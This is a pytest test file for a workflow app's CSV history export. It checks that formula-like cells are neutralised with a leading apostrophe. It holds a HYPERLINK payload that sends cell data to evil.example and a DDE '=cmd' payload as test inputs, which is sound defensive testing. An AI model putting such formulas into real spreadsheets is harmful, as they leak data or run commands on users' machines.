"""ASVS V1 (encoding and injection): a history export opened in a spreadsheet runs nothing. A
cell that starts with = + - @, a tab or a carriage return (a comment, a person's name) is
written with a leading apostrophe; other cells are exactly as typed."""

import csv
import io

import pytest

from chibo_flow.csv_export import neutralised
from chibo_flow.workflow import apply_transition

pytestmark = pytest.mark.one_database  # see tests/conftest.py

PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
STARTS = ["=", "+", "-", "@", "\t", "\r"]


def history(client, programme_id: int) -> list[list[str]]:
    """The rows of the programme's history.csv, as a spreadsheet reads them."""
    response = client.get(f"/programmes/{programme_id}/history.csv")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"), newline="")))


def disapprove(world, comment: str) -> None:
    """Submit the world's draft and have a committee member disapprove with `comment`."""
    programme = world.programme
    apply_transition(programme, "submit", world.users["secretary"], version=programme.version)
    apply_transition(programme, "request_changes", world.users["committee"],
                     version=programme.version, comment=comment)  # fmt: skip


@pytest.mark.parametrize("start", STARTS)
def test_a_formula_in_a_comment_is_exported_as_text(world, browser, start):
    disapprove(world, f"{start}{PAYLOAD}")

    rows = history(browser(world.users["secretary"]), world.programme.id)

    # A tab or CR in front of a comment is blank the workflow strips before storing it.
    expected = f"'{start}{PAYLOAD}" if start.strip() else PAYLOAD
    assert rows[-1][-1] == expected
    assert not any(cell.startswith(tuple(STARTS)) for row in rows for cell in row)


def test_a_formula_in_a_persons_name_is_exported_as_text(db, world, browser):
    world.users["committee"].name = "=cmd|' /C calc'!A0"
    db.session.commit()
    disapprove(world, "Đề nghị bổ sung số liệu.")

    rows = history(browser(world.users["secretary"]), world.programme.id)

    assert rows[-1][1] == "'=cmd|' /C calc'!A0"
    assert rows[-1][-1] == "Đề nghị bổ sung số liệu."  # ordinary text as typed


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("Đề nghị =1+1", "Đề nghị =1+1"),
        ("", ""),
        (None, ""),
        (3, "3"),
        ("-", "'-"),
        ("\tx", "'\tx"),
        ("'=1", "'=1"),
    ],  # fmt: skip
)
def test_neutralised(cell, written):
    assert neutralised(cell) == written
